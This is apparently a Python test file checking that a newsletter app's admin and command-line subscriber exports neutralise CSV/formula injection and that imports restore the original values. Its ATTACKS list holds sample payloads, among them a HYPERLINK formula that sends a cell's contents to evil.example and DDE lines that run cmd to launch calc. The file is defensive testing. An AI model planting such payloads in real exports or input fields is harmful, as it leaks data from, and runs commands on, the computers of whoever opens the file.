"""CSV injection (OWASP): every cell a spreadsheet would run as a formula comes out of an
export with a leading quote, in the admin download and the CLI (`--raw` is the explicit
way out); an import of the export gives back exactly what was stored. Property tests
(hypothesis) for the cell rule and for a whole file's round trip; the attack through
/subscribe for the admin export."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from typer.testing import Result

from dispatch.config import Settings
from dispatch.store.database import Database
from dispatch.subscribers.csv_export import CsvExport
from dispatch.subscribers.csv_rows import read_records
from dispatch.subscribers.csv_safe import TRIGGERS, neutralise, restore
from dispatch.web import create_app
from support.admin import ADMIN, Admin, add_people

LIST = "morning-briefing"
ATTACKS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\uff1dSUM(1)",  # fullwidth equals sign
]
# Text a CSV can carry (csv cannot hold NUL; surrogates are not UTF-8).
cells = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))


@given(cells)
def test_a_neutralised_cell_never_starts_a_formula_and_restores_exactly(cell: str) -> None:
    safe = neutralise(cell)
    assert not safe.startswith(TRIGGERS)
    assert restore(safe) == cell
    if not cell.lstrip("'").startswith(TRIGGERS):
        assert safe == cell  # harmless cells are left alone


@given(st.sampled_from([*TRIGGERS, "'", "''"]), cells)
def test_dangerous_starts_always_get_one_quote(start: str, rest: str) -> None:
    cell = start + rest
    if cell.lstrip("'").startswith(TRIGGERS):
        assert neutralise(cell) == "'" + cell


def written(rows: list[list[str]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")  # as CsvExport writes
    for row in rows:
        writer.writerow([neutralise(cell) for cell in row])
    return out.getvalue()


@hypothesis_settings(max_examples=60)
@given(st.lists(st.lists(cells, min_size=3, max_size=3), min_size=1, max_size=5))
def test_a_whole_file_reads_back_as_written(rows: list[list[str]]) -> None:
    text = written(rows)
    back = [[restore(cell) for cell in row] for row in csv.reader(io.StringIO(text, newline=""))]
    assert back == rows


# The importer reads physical lines as bytes: a CR inside a cell is not kept there (its
# own matter); everything else comes back through it exactly.
no_cr = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00\r"))


@hypothesis_settings(max_examples=60)
@given(st.lists(st.lists(no_cr, min_size=3, max_size=3), min_size=1, max_size=5))
def test_the_importer_reads_an_export_back_as_written(rows: list[list[str]]) -> None:
    records = list(read_records(io.BytesIO(written(rows).encode()).readlines()))
    assert all(record.problem is None for record in records)
    assert [record.fields for record in records] == rows


def sign_up(client: TestClient, name: str, email: str) -> None:
    response = client.post(
        "/subscribe", data={"email": email, "name": name, "list": LIST}, follow_redirects=False
    )
    assert response.status_code in (200, 303), response.text


@pytest.fixture(autouse=True)
def secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DISPATCH_SECRET_KEY", "csv-safe-secret")


def test_names_typed_at_subscribe_are_inert_in_the_admin_export(
    settings: Settings, db: Database
) -> None:
    add_people(db)
    app = create_app(settings, db)
    names = [" ".join(attack.split()) for attack in ATTACKS]  # names are whitespace-collapsed
    with TestClient(app, follow_redirects=False) as client:
        for number, name in enumerate(ATTACKS):
            sign_up(client, name, f"p{number}@example.com")
        admin = Admin(client, ADMIN)
        response = admin.get(f"/admin/lists/{LIST}/export.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    stored = {row["email"]: row["name"] for row in rows}
    for number, name in enumerate(names):
        shown = stored[f"p{number}@example.com"]
        assert shown == neutralise(name) and not shown.startswith(TRIGGERS), shown
        assert shown.startswith("'") or not name.startswith(TRIGGERS)


def test_cli_export_neutralises_unless_raw_and_import_restores(
    cli: Callable[..., Result], db: Database, tmp_path: Path
) -> None:
    source = tmp_path / "in.csv"
    with source.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out, lineterminator="\n")
        writer.writerow(["email", "name", "=formula"])
        writer.writerow(["-dash@example.com", "@SUM(1)", "+1"])
        writer.writerow(["ann@example.com", "Ann", "'=quoted already"])
    assert cli("subscribers", "import", str(source), "--list", LIST, "--confirmed").exit_code == 0
    safe = cli("subscribers", "export", "--list", LIST)
    raw = cli("subscribers", "export", "--list", LIST, "--raw")
    assert safe.exit_code == 0 and raw.exit_code == 0, safe.output
    safe_rows = list(csv.reader(io.StringIO(safe.stdout)))
    raw_rows = list(csv.reader(io.StringIO(raw.stdout)))
    assert safe_rows[0][4] == "'=formula" and raw_rows[0][4] == "=formula"
    assert safe_rows[1][:2] == ["'-dash@example.com", "'@SUM(1)"]
    assert safe_rows[1][4] == "'+1" and raw_rows[1][4] == "+1"
    # A quote before a formula in a file is read as a spreadsheet means it: text.
    assert safe_rows[2][4] == "'=quoted already" and raw_rows[2][4] == "=quoted already"
    # The protected file imports back into another list as the very same people.
    again = tmp_path / "again.csv"
    again.write_text(safe.stdout, encoding="utf-8")
    imported = cli("subscribers", "import", str(again), "--list", "weekly-review", "--confirmed")
    assert imported.exit_code == 0, imported.output
    with db.session() as session:
        weekly = "".join(CsvExport(session, "weekly-review", raw=True).chunks())
    assert list(csv.reader(io.StringIO(weekly)))[1][:2] == ["-dash@example.com", "@SUM(1)"]
    assert [row[4] for row in csv.reader(io.StringIO(weekly))] == [
        "=formula",
        "+1",
        "=quoted already",
    ]
